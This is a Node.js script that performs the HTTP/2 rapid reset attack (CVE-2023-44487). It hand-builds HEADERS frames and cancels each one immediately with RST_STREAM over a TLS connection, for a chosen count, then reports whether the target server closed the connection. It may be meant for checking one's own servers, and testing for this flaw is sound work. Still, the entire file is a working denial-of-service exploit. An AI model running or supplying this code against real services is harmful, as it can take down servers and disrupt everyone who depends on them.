// Begins requests over HTTP/2 and gives each up at once (rapid reset, CVE-2023-44487), in frames made by hand. Arguments: address, port,
// the other side's certificate, a bearer token, a path, how many. Prints `closed` or `open`: what became of the connection.
import fs from "node:fs";
import tls from "node:tls";

const [host, port, ca, token, path, count] = process.argv.slice(2);
const frame = (kind, flags, stream, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
// HPACK: each name and value as it stands, none longer than 126 bytes.
const text = (text) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
const headers = [
  [":method", "GET"],
  [":scheme", "https"],
  [":authority", `${host}:${port}`],
  [":path", path],
  ["authorization", `Bearer ${token}`],
];
const block = Buffer.concat(headers.map(([name, value]) => Buffer.concat([Buffer.from([0]), text(name), text(value)])));
const cancel = Buffer.from([0, 0, 0, 8]);

const socket = tls.connect({ host, port: Number(port), ca: fs.readFileSync(ca), ALPNProtocols: ["h2"] });
const end = (state) => {
  console.log(state);
  process.exit(0);
};
socket.on("error", () => end("closed"));
socket.on("close", () => end("closed"));
socket.resume();
socket.on("secureConnect", async () => {
  socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]));
  for (let begun = 0; begun < Number(count); begun++) {
    socket.write(Buffer.concat([frame(1, 5, 2 * begun + 1, block), frame(3, 0, 2 * begun + 1, cancel)]));
    if (begun % 20 === 0) await new Promise((resolve) => setTimeout(resolve, 1));
  }
  setTimeout(() => end("open"), 3_000);
});
